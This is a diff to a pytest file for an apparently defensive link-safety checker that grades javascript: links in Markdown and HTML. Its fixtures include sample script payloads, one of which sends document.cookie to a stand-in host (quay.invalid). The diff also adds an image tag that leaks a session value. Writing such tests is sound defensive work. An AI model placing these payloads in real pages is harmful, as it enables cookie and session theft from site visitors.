@@ -43,13 +43,26 @@ def test_others_are_a_note(link: str) -> None:
     assert told(f"# Berths\n\nThe plan of today: {link}\n") == [("SAF004", "note")]
 
 
+@pytest.mark.parametrize("call", ["window.show_consent('tool');", "Menu.toggle()", "__doPostBack('Pager','2')"])
+def test_a_call_of_the_page_that_was_saved_is_a_note(call: str) -> None:
+    assert told(f"# Berths\n\nSee [your choices](javascript:{call}).\n") == [("SAF004", "note")]
+
+
 @pytest.mark.parametrize(
-    "target", ["javascript:alert(1)", "JavaScript:fetch('//quay.invalid/'+document.cookie)", "javascript:eval(x)"]
+    "target",
+    [
+        "javascript:window.fetch('//quay.invalid/')",
+        "javascript:alert(1)",
+        "JavaScript:fetch('//quay.invalid/'+document.cookie)",
+        "javascript:eval(x)",
+    ],
 )
 def test_a_script(target: str) -> None:
     assert told(f"# Berths\n\nSee [the plan](<{target}>).\n") == [("SAF004", "warning")]
     assert told(f"# Berths\n\nKeep this bookmarklet: [the plan](<{target}>).\n") == [("SAF004", "note")]
     assert told(f'<html><body><p>See <a href="{target}">the plan</a>.</p></body></html>', "note.html") == []
+    counted = '<img src="https://quay.invalid/p.png?session={{session}}">'
+    assert told(f"<html><body><p>The plan.</p>{counted}</body></html>", "note.html") == []
 
 
 @pytest.mark.parametrize(
